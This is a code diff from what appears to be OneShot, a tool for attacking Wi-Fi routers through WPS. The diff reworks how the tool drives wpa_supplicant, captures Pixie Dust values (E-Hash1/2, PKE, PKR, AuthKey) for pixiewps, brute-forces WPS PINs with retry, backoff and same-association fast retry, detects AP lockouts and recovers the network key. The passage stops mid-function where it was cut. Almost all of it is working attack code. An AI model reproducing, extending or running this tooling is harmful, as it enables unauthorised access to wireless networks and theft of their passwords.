@@ -4,19 +4,35 @@
 import os
 import sys
 import csv
+import copy
+import shlex
 import time
-import socket
 import codecs
 import pathlib
+import binascii
 import tempfile
+import threading
 import shutil
 import subprocess
 import collections
+import concurrent.futures
 import statistics
 from datetime import datetime
 
-from .utils import get_hex, recvuntil
+from .utils import get_hex, waitForFile, saveReport, sigtermInterrupts, restoreSession, REPORTS_DIR
 from .wps import WPSpin
+from .wpas_reader import WpasOutputReader
+from .wpas_ctrl import WpasControl, WpasCtrlTimeout
+from .metrics import AttemptMetrics
+from .pacing import AttemptPacer, AttemptOutcome
+from .lock_monitor import LockMonitor, MAX_LOCKED_TIME
+from .wifi_scanner import freq_to_channel
+from .pixie_capture import PixieCapture
+from .pixie_native import native_crack
+from .checkpoint import Checkpointer
+from .tried_pins import TriedPins
+from .pixiewps import PixiewpsData, PixiewpsRunner, PixiewpsCapabilities, PixiewpsCache, StrategyStats, \
+    build_strategies
 
 class WPSState:
     """Class for tracking WPS protocol state"""
@@ -59,100 +75,142 @@ class WPSState:
         }
         return states.get(state, 'UNKNOWN')
 
-class PixiewpsData:
-    """Class for storing Pixiewps attack data with enhanced chipset support"""
-    def __init__(self):
-        self.pke = ''
-        self.pkr = ''
-        self.e_hash1 = ''
-        self.e_hash2 = ''
-        self.authkey = ''
-        self.e_nonce = ''
-        self.r_nonce = ''  # Added for newer algorithms
-        self.e_bssid = ''  # Added for newer algorithms
-        self.e_snonce = '' # Added for some Broadcom routers
-        self.r_snonce = '' # Added for some Broadcom routers
-        self.e_manufacturer = ''  # Added for manufacturer specific attacks
-        self.e_model = ''        # Added for model specific attacks
-        self.e_version = ''      # Added for version specific attacks
-        self.key_version = 0x10  # Default WPS key version
-
-    def clear(self):
-        self.__init__()
-
-    def got_all(self):
-        """Check if we have all required data for basic Pixie Dust attack"""
-        return (self.pke and self.pkr and self.e_nonce and self.authkey
-                and self.e_hash1 and self.e_hash2)
-
-    def got_extended(self):
-        """Check if we have extended data for advanced attacks"""
-        return (self.got_all() and self.r_nonce and self.e_bssid)
-
-    def get_pixie_cmd(self, full_range=False, advanced=True):
-        """Generate Pixiewps command with support for multiple algorithms"""
-        pixiecmd = ["pixiewps"]
-        
-        # Basic parameters
-        pixiecmd.extend([
-            "--pke", self.pke,
-            "--pkr", self.pkr,
-            "--e-hash1", self.e_hash1,
-            "--e-hash2", self.e_hash2,
-            "--authkey", self.authkey,
-            "--e-nonce", self.e_nonce
-        ])
-
-        # Extended parameters for newer algorithms
-        if advanced and self.got_extended():
-            pixiecmd.extend([
-                "--r-nonce", self.r_nonce,
-                "--bssid", self.e_bssid
-            ])
-
-        # Optional parameters for specific chipsets
-        if self.e_snonce:
-            pixiecmd.extend(["--e-snonce", self.e_snonce])
-        if self.r_snonce:
-            pixiecmd.extend(["--r-snonce", self.r_snonce])
-        
-        # Version specific parameters
-        if self.key_version != 0x10:
-            pixiecmd.extend(["--wps-version", str(self.key_version)])
-
-        # Manufacturer specific optimizations
-        if self.e_manufacturer:
-            pixiecmd.extend(["--vendor", self.e_manufacturer])
-        
-        # Force full range if requested
-        if full_range:
-            pixiecmd.append("--force")
-            
-        # Additional optimizations
-        pixiecmd.extend([
-            "--dh-small",  # Use small DH keys when possible
-            "--mode", "3",  # Try all known algorithms
-            "--verbosity", "3"  # Increased verbosity for debugging
-        ])
-
-        return " ".join(pixiecmd)
+class WPSFailure:
+    """Why a WPS attempt ended without credentials"""
+    NONE = 0            # Finished: credentials, PIN accepted or wpa_supplicant exited
+    NACK = 1            # The AP rejected the PIN
+    TIMEOUT = 2
+    DEAUTH = 3
+    ASSOC_FAILURE = 4
+    WPS_FAIL = 5        # WPS-FAIL without a NACK
+    LOCKED = 6          # The AP setup is locked
+    REJECTED = 7        # wpa_supplicant did not accept the command
 
+    @staticmethod
+    def to_string(failure):
+        failures = {
+            0: 'none',
+            1: 'nack',
+            2: 'timeout',
+            3: 'deauth',
+            4: 'assoc_failure',
+            5: 'wps_fail',
+            6: 'locked',
+            7: 'rejected'
+        }
+        return failures.get(failure, 'unknown')
+
+# Failures that are retried within one single_connection: (max retries, backoff step in seconds).
+# The n-th retry of a class waits n backoff steps
+WPS_RETRY_POLICY = {
+    WPSFailure.TIMEOUT: (5, 1),
+    WPSFailure.DEAUTH: (2, 2),
+    WPSFailure.ASSOC_FAILURE: (5, 2),
+    WPSFailure.WPS_FAIL: (5, 1)
+}
+
+WPS_FAILURE_MESSAGES = {
+    WPSFailure.TIMEOUT: 'Connection timed out',
+    WPSFailure.DEAUTH: 'Deauthenticated',
+    WPSFailure.ASSOC_FAILURE: 'Association failed',
+    WPSFailure.WPS_FAIL: 'WPS failure detected'
+}
+
+# Attempt phases timed by AttemptMetrics, by the state that starts them.
+# A phase lasts until the next one starts: M4 is the AP answering our M4, NACK is the teardown
+WPS_STATE_PHASES = {
+    WPSState.WPS_START: 'start',
+    WPSState.SCANNING: 'scan',
+    WPSState.AUTHENTICATING: 'authenticate',
+    WPSState.ASSOCIATING: 'associate',
+    WPSState.WPS_M1: 'M1',
+    WPSState.WPS_M2: 'M2',
+    WPSState.WPS_M3: 'M3',
+    WPSState.WPS_M4: 'M4',
+    WPSState.WPS_M5: 'M5',
+    WPSState.WPS_M6: 'M6',
+    WPSState.WPS_M7: 'M7',
+    WPSState.WPS_M8: 'M8',
+    WPSState.WPS_DONE: 'done',
+    WPSState.WPS_TIMEOUT: 'timeout'
+}
+
+# Hexdump titles (without the 'WPS: ' prefix) of the Pixie Dust data: attribute, length, label
+PIXIE_HEXDUMPS = {
+    b'Enrollee Nonce': ('e_nonce', 16, 'E-Nonce'),
+    b'DH own Public Key': ('pkr', 192, 'PKR'),
+    b'DH peer Public Key': ('pke', 192, 'PKE'),
+    b'AuthKey': ('authkey', 32, 'AuthKey'),
+    b'E-Hash1': ('e_hash1', 32, 'E-Hash1'),
+    b'E-Hash2': ('e_hash2', 32, 'E-Hash2')
+}
+
+# Hexdumps collected only in Pixie Dust mode: attribute, label
+PIXIE_EXTRA_HEXDUMPS = {
+    b'Registrar Nonce': ('r_nonce', 'R-Nonce'),
+    b'Enrollee SNonce': ('e_snonce', 'E-SNonce'),
+    b'Registrar SNonce': ('r_snonce', 'R-SNonce')
+}
+
+# First words of the '<interface>: …' wpa_supplicant messages we react on
+WPAS_IFACE_EVENTS = frozenset((
+    b'State:', b'WPS-FAIL', b'WPS-SUCCESS', b'WPS-TIMEOUT', b'Trying', b'SME:', b'Associated', b'selected',
+    b'Deauthentication', b'Association', b'CTRL-EVENT-DISCONNECTED'
+))
+
+# M1 device info dumped with hexdump_ascii: attribute, label
+PIXIE_DEVICE_INFO = {
+    b'Manufacturer': ('e_manufacturer', 'Manufacturer'),
+    b'Model Name': ('e_model', 'Model'),
+    b'Model Number': ('e_version', 'Version')
+}
+
+# wpa_supplicant STATUS states in which an EAP exchange can be restarted on the current association
+WPAS_ASSOCIATED_STATES = ('ASSOCIATED', 'COMPLETED')
+# Seconds a restarted exchange may go without progress before the association is considered gone
+WPS_REUSE_TIMEOUT = 10
+
+# Seconds wpa_supplicant has to answer a control interface command
+WPAS_CTRL_TIMEOUT = 5.0
+
+# wpa_supplicant drivers, in the order they are probed
+WPAS_DRIVERS = ('nl80211', 'wext', 'hostapd', 'wired')
+
+class WpasLogLevel:
+    """wpa_supplicant debug levels, from the most to the least verbose"""
+    EXCESSIVE = 'EXCESSIVE'
+    MSGDUMP = 'MSGDUMP'
+    DEBUG = 'DEBUG'
+    INFO = 'INFO'
+
+    ORDER = (EXCESSIVE, MSGDUMP, DEBUG, INFO)
+
+# WPS message type codes reported by 'WPS-FAIL msg=<code>' → M-message number
+WPS_MESSAGE_NUMBERS = {0x04: 1, 0x05: 2, 0x07: 3, 0x08: 4, 0x09: 5, 0x0a: 6, 0x0b: 7, 0x0c: 8}
+
+# Messages of the registrar: a WPS-FAIL after one of them is the NACK of the AP
+WPS_NACKED_MESSAGES = (2, 4, 6)
+
+# WPS-FAIL config_error sent by the AP when the PIN (or its half) is wrong
+WPS_CFG_DEV_PASSWORD_AUTH_FAILURE = 18
+# WPS-FAIL config_error of an AP that has locked its setup after too many wrong PINs
+WPS_CFG_SETUP_LOCKED = 15
 
 class ConnectionStatus:
     """Class for storing WPS connection status with enhanced state tracking"""
     def __init__(self):
         self.state = WPSState.IDLE
-        self.status = ''   # Must be WSC_NACK, WPS_FAIL or GOT_PSK
+        self.status = ''   # Must be WSC_NACK, WPS_FAIL, PIN_ACCEPTED, GOT_PSK or PIXIE_DATA
         self.last_m_message = 0
         self.essid = ''
         self.wpa_psk = ''
         self.bssid = ''
-        self.retry_count = 0
-        self.max_retries = 5  # Increased from 3 to 5
         self.timeout = 30  # Default timeout in seconds
         self.last_state_change = time.time()
-        self.deauth_count = 0
-        self.max_deauth = 3
+        self.ap_locked = False
+        self.failure = WPSFailure.NONE
+        self.phases = []   # [(phase, time.monotonic()), …] of the current attempt
+        self.trace = []    # [(WPSState, time.monotonic()), …] of the current attempt
 
     def isFirstHalfValid(self):
         return self.last_m_message > 5
@@ -161,18 +219,19 @@ class ConnectionStatus:
         if new_state != self.state:
             self.state = new_state
             self.last_state_change = time.time()
+            self.trace.append((new_state, time.monotonic()))
+            if new_state == WPSState.WPS_FAIL:
+                self.markPhase('nack' if self.status == 'WSC_NACK' else 'fail')
+            elif new_state in WPS_STATE_PHASES:
+                self.markPhase(WPS_STATE_PHASES[new_state])
             print(f'[*] State changed to: {WPSState.to_string(new_state)}')
 
+    def markPhase(self, phase):
+        self.phases.append((phase, time.monotonic()))
+
     def isTimedOut(self):
         return (time.time() - self.last_state_change) > self.timeout
 
-    def canRetry(self):
-        return self.retry_count < self.max_retries
-
-    def incrementRetry(self):
-        self.retry_count += 1
-        return self.canRetry()
-
     def clear(self):
         self.__init__()
 
@@ -213,60 +272,143 @@ class BruteforceStatus:
 
 class Companion:
     """Main WPS connection handler class"""
-    def __init__(self, interface, save_result=False, print_debug=False):
+    def __init__(self, interface, save_result=False, print_debug=False, wpas_binary='wpa_supplicant',
+                 metrics=None, fast_retry=True, remember_rejected=True, native_pixie=True):
+        """
+        @fast_retry — after a NACK, try the next brute force PIN on the same association
+                      when the AP keeps it, restarting only the EAP-WSC exchange
+        @remember_rejected — keep the PINs the AP rejects across runs and refuse to send them again;
+                             when False they are only used to skip halves within a brute force run
+        @native_pixie — try the in-process Pixie Dust engine before pixiewps
+        """
         self.interface = interface
         self.save_result = save_result
         self.print_debug = print_debug
+        self.wpas_binary = wpas_binary
+        self.metrics = metrics or AttemptMetrics()
+        self.lock_monitor = None
+        self.attempt_trace = []   # [(WPSFailure, ConnectionStatus.trace), …] of the last connection
+        self.pixiewps_capabilities = None   # Probed on the first Pixiewps run
+        self.strategy_stats = None   # Loaded on the first Pixiewps run
+        self.pixie_job = None   # Future of the Pixiewps run started as soon as the data was complete
+        self.pixie_runner = None   # PixiewpsRunner of that run
+        self.tried_pins = {}   # BSSID → TriedPins, opened on first use
+        self.cancel = threading.Event()   # Set from another thread to end the running attempt
+        self.fast_retry = fast_retry
+        self.remember_rejected = remember_rejected
+        self.native_pixie = native_pixie
+        self.reusable_bssid = None   # AP whose association may have outlived the last NACK
+        self.frequencies = {}   # BSSID → channel frequency in MHz, from the scanner or wpa_supplicant's BSS table
+        self.pinned_freq = None   # Frequency wpa_supplicant scans are restricted to
+        self.frequency_misses = {}   # BSSID → time.monotonic() the AP was last missed on its pinned channel
+
+        user_home = str(pathlib.Path.home())
+        self.sessions_dir = f'{user_home}/.OneShot/sessions/'
+        self.pixiewps_dir = f'{user_home}/.OneShot/pixiewps/'
+        self.drivers_dir = f'{user_home}/.OneShot/drivers/'
+        self.reports_dir = REPORTS_DIR
+        for directory in (self.sessions_dir, self.pixiewps_dir, self.drivers_dir):
+            if not os.path.exists(directory):
+                os.makedirs(directory)
 
         self.tempdir = tempfile.mkdtemp()
         with tempfile.NamedTemporaryFile(mode='w', suffix='.conf', delete=False) as temp:
             temp.write('ctrl_interface={}\nctrl_interface_group=root\nupdate_config=1\n'.format(self.tempdir))
             self.tempconf = temp.name
         self.wpas_ctrl_path = f"{self.tempdir}/{interface}"
+        self.wpas = None
+        self.ctrl = WpasControl(self.wpas_ctrl_path, timeout=WPAS_CTRL_TIMEOUT)
+        # wpa_supplicant starts quiet; verbosity is raised per attempt only when needed
+        self.log_level = WpasLogLevel.DEBUG if print_debug else WpasLogLevel.INFO
         self.__init_wpa_supplicant()
 
-        self.res_socket_file = f"{tempfile._get_default_tempdir()}/{next(tempfile._get_candidate_names())}"
-        self.retsock = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
-        self.retsock.bind(self.res_socket_file)
-
         self.pixie_creds = PixiewpsData()
         self.connection_status = ConnectionStatus()
-
-        user_home = str(pathlib.Path.home())
-        self.sessions_dir = f'{user_home}/.OneShot/sessions/'
-        self.pixiewps_dir = f'{user_home}/.OneShot/pixiewps/'
-        self.reports_dir = os.path.dirname(os.path.realpath(__file__)) + '/../reports/'
-        if not os.path.exists(self.sessions_dir):
-            os.makedirs(self.sessions_dir)
-        if not os.path.exists(self.pixiewps_dir):
-            os.makedirs(self.pixiewps_dir)
+        self.__iface_prefix = interface.encode() + b': '
+        self.__ascii_dump = None
 
         self.generator = WPSpin()
 
     def __init_wpa_supplicant(self):
         print('[*] Running wpa_supplicant…')
-        cmd = 'wpa_supplicant -K -d -Dnl80211,wext,hostapd,wired -i{} -c{}'.format(self.interface, self.tempconf)
+        # The driver that worked last time for this interface is tried alone, without probing others
+        driver_file = self.drivers_dir + self.interface
+        try:
+            with open(driver_file, 'r') as file:
+                cached_driver = file.readline().strip()
+        except FileNotFoundError:
+            cached_driver = None
+        drivers = [d for d in WPAS_DRIVERS if d != cached_driver]
+        if cached_driver:
+            drivers.insert(0, cached_driver)
+
+        for driver in drivers:
+            start_time = time.monotonic()
+            if self.__start_wpa_supplicant(driver):
+                self.wpas_driver = driver
+                self.startup_latency = time.monotonic() - start_time
+                self.metrics.registerStartup(self.interface, driver, self.startup_latency)
+                if self.print_debug:
+                    print('[*] wpa_supplicant started in {:.0f} ms (driver: {})'.format(
+                        self.startup_latency * 1000, driver))
+                if driver != cached_driver:
+                    with open(driver_file, 'w') as file:
+                        file.write(driver)
+                break
+            if driver == cached_driver:
+                os.remove(driver_file)
+        else:
+            raise ValueError('wpa_supplicant returned an error: ' + self.__wpas_error)
+        self.wpas_output = WpasOutputReader(self.wpas.stdout)
+
+    def __start_wpa_supplicant(self, driver):
+        """Starts wpa_supplicant with the driver; returns True when its control interface is up"""
+        # exec: terminate() has to reach wpa_supplicant itself, not the shell that started it
+        cmd = 'exec {} -K {}-D{} -i{} -c{}'.format(
+            self.wpas_binary, '-d ' if self.log_level == WpasLogLevel.DEBUG else '',
+            driver, self.interface, self.tempconf)
+        # Output is kept as bytes: only the lines we are interested in get decoded
         self.wpas = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE,
-                                     stderr=subprocess.STDOUT, encoding='utf-8', errors='replace')
+                                     stderr=subprocess.STDOUT)
         # Waiting for wpa_supplicant control interface initialization
-        while True:
-            ret = self.wpas.poll()
-            if ret is not None and ret != 0:
-                raise ValueError('wpa_supplicant returned an error: ' + self.wpas.communicate()[0])
-            if os.path.exists(self.wpas_ctrl_path):
-                break
-            time.sleep(.1)
+        if waitForFile(self.wpas_ctrl_path, cancel=lambda: self.wpas.poll() is not None):
+            return True
+        self.__wpas_error = self.wpas.communicate()[0].decode('utf-8', errors='replace')
+        return False
 
     def sendOnly(self, command):
         """Sends command to wpa_supplicant"""
-        self.retsock.sendto(command.encode(), self.wpas_ctrl_path)
+        self.ctrl.send(command)
 
-    def sendAndReceive(self, command):
-        """Sends command to wpa_supplicant and returns the reply"""
-        self.retsock.sendto(command.encode(), self.wpas_ctrl_path)
-        (b, address) = self.retsock.recvfrom(4096)
-        inmsg = b.decode('utf-8', errors='replace')
-        return inmsg
+    def sendAndReceive(self, command, timeout=None):
+        """
+        Sends command to wpa_supplicant and returns the reply
+        @timeout — seconds to wait for the reply, WPAS_CTRL_TIMEOUT by default
+        Returns an empty string if wpa_supplicant did not answer
+        """
+        try:
+            return self.ctrl.request(command, timeout)
+        except WpasCtrlTimeout:
+            print('[!] wpa_supplicant did not answer {} in time'.format(command.split()[0]))
+        except OSError as e:
+            print('[!] wpa_supplicant control interface error: {}'.format(e))
+        return ''
+
+    def setLogLevel(self, level):
+        """
+        Changes wpa_supplicant debug level through the control interface
+        @level — one of WpasLogLevel levels; in verbose mode the level never drops below DEBUG
+        """
+        order = WpasLogLevel.ORDER
+        if self.print_debug and order.index(level) > order.index(WpasLogLevel.DEBUG):
+            level = WpasLogLevel.DEBUG
+        if level == self.log_level:
+            return True
+        r = self.sendAndReceive(f'LOG_LEVEL {level}')
+        if 'OK' not in r:
+            return False
+        self.log_level = level
+        return True
 
     @staticmethod
     def _explain_wpas_not_ok_status(command: str, respond: str):
@@ -279,209 +421,295 @@ class Companion:
     def __handle_wpas(self, pixiemode=False, pbc_mode=False, verbose=None):
         if not verbose:
             verbose = self.print_debug
-        line = self.wpas.stdout.readline()
-        if not line:
-            self.wpas.wait()
-            return False
-        line = line.rstrip('\n')
+        line = self.wpas_output.readline(timeout=1)
+        if line is None:
+            if self.wpas_output.eof:
+                self.wpas.wait()
+                return False
+            return True
 
         if verbose:
-            sys.stderr.write(line + '\n')
+            sys.stderr.buffer.write(line + b'\n')
+            sys.stderr.flush()
 
-        if line.startswith('WPS: '):
-            if 'Building Message M' in line:
-                n = int(line.split('Building Message M')[1].replace('D', ''))
+        if self.__ascii_dump is not None:
+            if line.startswith(b'     '):
+                # Continuation of a multi-line hexdump_ascii
+                self.__ascii_dump[1].extend(binascii.a2b_hex(line[5:54].translate(None, b' ')))
+                return True
+            self.__finish_ascii_dump(verbose)
+
+        if line.startswith(b'WPS: '):
+            title_end = line.find(b' - hexdump', 5)
+            if title_end != -1:
+                self.__handle_hexdump(line, line[5:title_end], pixiemode, verbose)
+            elif line.startswith(b'WPS: Building Message M'):
+                n = int(line[23:].replace(b'D', b''))
                 self.connection_status.last_m_message = n
                 self.connection_status.setState(WPSState.WPS_M1 + n - 1)
                 print('[*] Sending WPS Message M{}…'.format(n))
-            elif 'Received M' in line:
-                n = int(line.split('Received M')[1])
+            elif line.startswith(b'WPS: Received M'):
+                n = int(line[15:])
                 self.connection_status.last_m_message = n
                 self.connection_status.setState(WPSState.WPS_M1 + n - 1)
                 print('[*] Received WPS Message M{}'.format(n))
                 if n == 5:
                     print('[+] The first half of the PIN is valid')
-            elif 'Received WSC_NACK' in line:
+            elif line.startswith(b'WPS: Received WSC_NACK'):
                 self.connection_status.status = 'WSC_NACK'
                 self.connection_status.setState(WPSState.WPS_FAIL)
                 print('[*] Received WSC NACK')
                 print('[-] Error: wrong PIN code')
-            elif 'Enrollee Nonce' in line and 'hexdump' in line:
-                self.pixie_creds.e_nonce = get_hex(line)
-                assert(len(self.pixie_creds.e_nonce) == 16*2)
-                if pixiemode:
-                    print('[P] E-Nonce: {}'.format(self.pixie_creds.e_nonce))
-            elif 'DH own Public Key' in line and 'hexdump' in line:
-                self.pixie_creds.pkr = get_hex(line)
-                assert(len(self.pixie_creds.pkr) == 192*2)
-                if pixiemode:
-                    print('[P] PKR: {}'.format(self.pixie_creds.pkr))
-            elif 'DH peer Public Key' in line and 'hexdump' in line:
-                self.pixie_creds.pke = get_hex(line)
-                assert(len(self.pixie_creds.pke) == 192*2)
-                if pixiemode:
-                    print('[P] PKE: {}'.format(self.pixie_creds.pke))
-            elif 'AuthKey' in line and 'hexdump' in line:
-                self.pixie_creds.authkey = get_hex(line)
-                assert(len(self.pixie_creds.authkey) == 32*2)
-                if pixiemode:
-                    print('[P] AuthKey: {}'.format(self.pixie_creds.authkey))
-            elif 'E-Hash1' in line and 'hexdump' in line:
-                self.pixie_creds.e_hash1 = get_hex(line)
-                assert(len(self.pixie_creds.e_hash1) == 32*2)
-                if pixiemode:
-                    print('[P] E-Hash1: {}'.format(self.pixie_creds.e_hash1))
-            elif 'E-Hash2' in line and 'hexdump' in line:
-                self.pixie_creds.e_hash2 = get_hex(line)
-                assert(len(self.pixie_creds.e_hash2) == 32*2)
-                if pixiemode:
-                    print('[P] E-Hash2: {}'.format(self.pixie_creds.e_hash2))
-            elif 'Network Key' in line and 'hexdump' in line:
-                self.connection_status.status = 'GOT_PSK'
-                self.connection_status.setState(WPSState.WPS_DONE)
-                self.connection_status.wpa_psk = bytes.fromhex(get_hex(line)).decode('utf-8', errors='replace')
-            elif 'WPS-TIMEOUT' in line:
-                self.connection_status.setState(WPSState.WPS_TIMEOUT)
-                print('[!] WPS operation timed out')
-            elif 'WPS-FAIL' in line:
-                self.connection_status.setState(WPSState.WPS_FAIL)
-                print('[-] WPS operation failed')
+        elif line.startswith(self.__iface_prefix):
+            # Interface messages are dispatched by their first word
+            message = line[len(self.__iface_prefix):].lstrip(b' ')
+            word = message.partition(b' ')[0]
+            if word in WPAS_IFACE_EVENTS:
+                return self.__handle_iface_event(message, pbc_mode)
+        elif line.startswith(b'EAPOL: txStart'):
+            self.connection_status.status = 'eapol_start'
+            self.connection_status.markPhase('eapol_start')
+            print('[*] Sending EAPOL Start…')
+        elif line.startswith(b'EAP: EAP entering state IDENTITY'):
+            print('[*] Received Identity Request')
+        elif line.startswith(b'EAP: using real identity'):
+            print('[*] Sending Identity Response…')
 
-            # Additional data collection for enhanced Pixie Dust attack
-            if pixiemode:
-                if 'Registrar Nonce' in line and 'hexdump' in line:
-                    self.pixie_creds.r_nonce = get_hex(line)
-                    if verbose:
-                        print('[P] R-Nonce: {}'.format(self.pixie_creds.r_nonce))
-                elif 'Enrollee SNonce' in line and 'hexdump' in line:
-                    self.pixie_creds.e_snonce = get_hex(line)
-                    if verbose:
-                        print('[P] E-SNonce: {}'.format(self.pixie_creds.e_snonce))
-                elif 'Registrar SNonce' in line and 'hexdump' in line:
-                    self.pixie_creds.r_snonce = get_hex(line)
-                    if verbose:
-                        print('[P] R-SNonce: {}'.format(self.pixie_creds.r_snonce))
-                elif 'Manufacturer' in line:
-                    self.pixie_creds.e_manufacturer = line.split(':', 1)[1].strip()
-                    if verbose:
-                        print('[P] Manufacturer: {}'.format(self.pixie_creds.e_manufacturer))
-                elif 'Model Name' in line:
-                    self.pixie_creds.e_model = line.split(':', 1)[1].strip()
-                    if verbose:
-                        print('[P] Model: {}'.format(self.pixie_creds.e_model))
-                elif 'Model Number' in line:
-                    self.pixie_creds.e_version = line.split(':', 1)[1].strip()
-                    if verbose:
-                        print('[P] Version: {}'.format(self.pixie_creds.e_version))
-                elif 'OS Version' in line:
-                    version = line.split(':', 1)[1].strip()
-                    if '1.0' in version:
-                        self.pixie_creds.key_version = 0x10
-                    elif '2.0' in version:
-                        self.pixie_creds.key_version = 0x20
-                    if verbose:
-                        print('[P] WPS Version: {}'.format(hex(self.pixie_creds.key_version)))
-        elif ': State: ' in line:
-            if '-> SCANNING' in line:
+        return True
+
+    def __handle_iface_event(self, message, pbc_mode):
+        """Handles a '<interface>: <message>' line, the message starts with a WPAS_IFACE_EVENTS word"""
+        if message.startswith(b'SME: Trying'):
+            # With the SME of wpa_supplicant (nl80211, mac80211) the authentication request is prefixed
+            message = message[5:]
+        if message.startswith(b'State: '):
+            if message.endswith(b'-> SCANNING'):
                 self.connection_status.status = 'scanning'
                 self.connection_status.setState(WPSState.SCANNING)
                 print('[*] Scanning…')
-        elif ('WPS-FAIL' in line) and (self.connection_status.status != ''):
-            self.connection_status.status = 'WPS_FAIL'
-            self.connection_status.setState(WPSState.WPS_FAIL)
-            print('[-] wpa_supplicant returned WPS-FAIL')
-        elif 'Trying to authenticate with' in line:
+        elif message.startswith(b'WPS-FAIL'):
+            # WPS-FAIL msg=<message type> config_error=<n> …: all that is reported at INFO level
+            fields = dict(f.split(b'=', 1) for f in message.split()[1:] if b'=' in f)
+            config_error = int(fields.get(b'config_error', 0))
+            n = WPS_MESSAGE_NUMBERS.get(int(fields.get(b'msg', 0)), 0)
+            if config_error == WPS_CFG_SETUP_LOCKED:
+                self.connection_status.ap_locked = True
+                self.connection_status.status = 'WPS_FAIL'
+                self.connection_status.setState(WPSState.WPS_FAIL)
+                print('[-] AP setup is locked')
+            elif n in WPS_NACKED_MESSAGES:
+                # Many APs send a wrong PIN NACK with a config_error other than 18, often 0
+                self.connection_status.last_m_message = max(self.connection_status.last_m_message, n)
+                self.connection_status.status = 'WSC_NACK'
+                self.connection_status.setState(WPSState.WPS_FAIL)
+                print('[*] Received WSC NACK after M{}'.format(n))
+                if n >= 4 or config_error == WPS_CFG_DEV_PASSWORD_AUTH_FAILURE:
+                    print('[-] Error: wrong PIN code')
+            elif self.connection_status.status != '':
+                self.connection_status.status = 'WPS_FAIL'
+                self.connection_status.setState(WPSState.WPS_FAIL)
+                print('[-] wpa_supplicant returned WPS-FAIL')
+        elif message.startswith(b'WPS-SUCCESS'):
+            if self.connection_status.status != 'GOT_PSK':
+                # The network key is only dumped at DEBUG level
+                self.connection_status.last_m_message = max(self.connection_status.last_m_message, 7)
+                self.connection_status.status = 'PIN_ACCEPTED'
+                self.connection_status.setState(WPSState.WPS_DONE)
+                print('[+] WPS PIN accepted')
+        elif message.startswith(b'WPS-TIMEOUT'):
+            self.connection_status.failure = WPSFailure.TIMEOUT
+            self.connection_status.setState(WPSState.WPS_TIMEOUT)
+            print('[!] WPS operation timed out')
+        elif message.startswith(b'Trying to authenticate with'):
             self.connection_status.status = 'authenticating'
             self.connection_status.setState(WPSState.AUTHENTICATING)
-            if 'SSID' in line:
-                self.connection_status.essid = codecs.decode("'".join(line.split("'")[1:-1]), 'unicode-escape').encode('latin1').decode('utf-8', errors='replace')
+            if b'SSID' in message:
+                self.connection_status.essid = self.__parse_essid(message)
             print('[*] Authenticating…')
-        elif 'Authentication response' in line:
+        elif message.startswith(b'SME: Authentication response'):
             print('[+] Authenticated')
-        elif 'Trying to associate with' in line:
+        elif message.startswith(b'Trying to associate with'):
             self.connection_status.status = 'associating'
             self.connection_status.setState(WPSState.ASSOCIATING)
-            if 'SSID' in line:
-                self.connection_status.essid = codecs.decode("'".join(line.split("'")[1:-1]), 'unicode-escape').encode('latin1').decode('utf-8', errors='replace')
+            if b'SSID' in message:
+                self.connection_status.essid = self.__parse_essid(message)
             print('[*] Associating with AP…')
-        elif ('Associated with' in line) and (self.interface in line):
-            bssid = line.split()[-1].upper()
+        elif message.startswith(b'Associated with'):
+            bssid = message.split()[-1].decode('utf-8', errors='replace').upper()
             if self.connection_status.essid:
                 print('[+] Associated with {} (ESSID: {})'.format(bssid, self.connection_status.essid))
             else:
                 print('[+] Associated with {}'.format(bssid))
-        elif 'EAPOL: txStart' in line:
-            self.connection_status.status = 'eapol_start'
-            print('[*] Sending EAPOL Start…')
-        elif 'EAP entering state IDENTITY' in line:
-            print('[*] Received Identity Request')
-        elif 'using real identity' in line:
-            print('[*] Sending Identity Response…')
-        elif pbc_mode and ('selected BSS ' in line):
-            bssid = line.split('selected BSS ')[-1].split()[0].upper()
-            self.connection_status.bssid = bssid
-            print('[*] Selected AP: {}'.format(bssid))
-        elif 'Deauthentication notification' in line:
+        elif message.startswith(b'selected BSS '):
+            if pbc_mode:
+                bssid = message[13:].split()[0].decode('utf-8', errors='replace').upper()
+                self.connection_status.bssid = bssid
+                print('[*] Selected AP: {}'.format(bssid))
+        elif message.startswith(b'Deauthentication notification'):
             print('[!] Received deauthentication notification')
-        elif 'Association request to the driver failed' in line:
+            self.connection_status.failure = WPSFailure.DEAUTH
+        elif message.startswith(b'Association request to the driver failed'):
             print('[!] Association request failed')
-            if self.connection_status.canRetry():
-                time.sleep(2)  # Wait before retry
-                return True
-        elif 'CTRL-EVENT-DISCONNECTED' in line:
+            self.connection_status.failure = WPSFailure.ASSOC_FAILURE
+        elif message.startswith(b'CTRL-EVENT-DISCONNECTED'):
             print('[!] Disconnected from AP')
-            if self.connection_status.canRetry():
-                time.sleep(2)  # Wait before retry
-                return True
-
+            # A locally generated disconnect follows WPS-FAIL or WPS_CANCEL and may arrive
+            # after the next attempt has already started; only the AP kicking us out counts
+            if not message.endswith(b'locally_generated=1') and \
+                    self.connection_status.state not in (WPSState.WPS_START, WPSState.SCANNING):
+                self.connection_status.failure = WPSFailure.DEAUTH
         return True
 
-    def __runPixiewps(self, showcmd=False, full_range=False):
-        """Enhanced Pixiewps execution with multiple attack strategies"""
-        print("[*] Running Pixiewps with enhanced algorithms...")
-        
-        # Try different attack strategies in order of likelihood
-        strategies = [
-            ("Default", lambda: self.pixie_creds.get_pixie_cmd(full_range, advanced=True)),
-            ("Legacy", lambda: self.pixie_creds.get_pixie_cmd(full_range, advanced=False)),
-            ("Broadcom", lambda: self.pixie_creds.get_pixie_cmd(full_range, advanced=True) + " --ecos-ver 2"),
-            ("Ralink", lambda: self.pixie_creds.get_pixie_cmd(full_range, advanced=True) + " --ecos-ver 1"),
-            ("MediaTek", lambda: self.pixie_creds.get_pixie_cmd(full_range, advanced=True) + " --ecos-ver 3")
-        ]
-        
-        for strategy_name, cmd_generator in strategies:
-            cmd = cmd_generator()
-            if showcmd:
-                print(f"[*] Trying {strategy_name} strategy:")
-                print(cmd)
-            
-            print(f"[*] Attempting {strategy_name} Pixie Dust attack...")
-            
-            try:
-                r = subprocess.run(cmd, shell=True, stdout=subprocess.PIPE,
-                                 stderr=subprocess.PIPE, encoding='utf-8',
-                                 errors='replace', timeout=60)
-            except subprocess.TimeoutExpired:
-                print(f"[-] {strategy_name} strategy timed out")
-                continue
+    def __handle_hexdump(self, line, title, pixiemode, verbose):
+        """Handles a 'WPS: <title> - hexdump…' line; only known titles are converted"""
+        if title in PIXIE_HEXDUMPS:
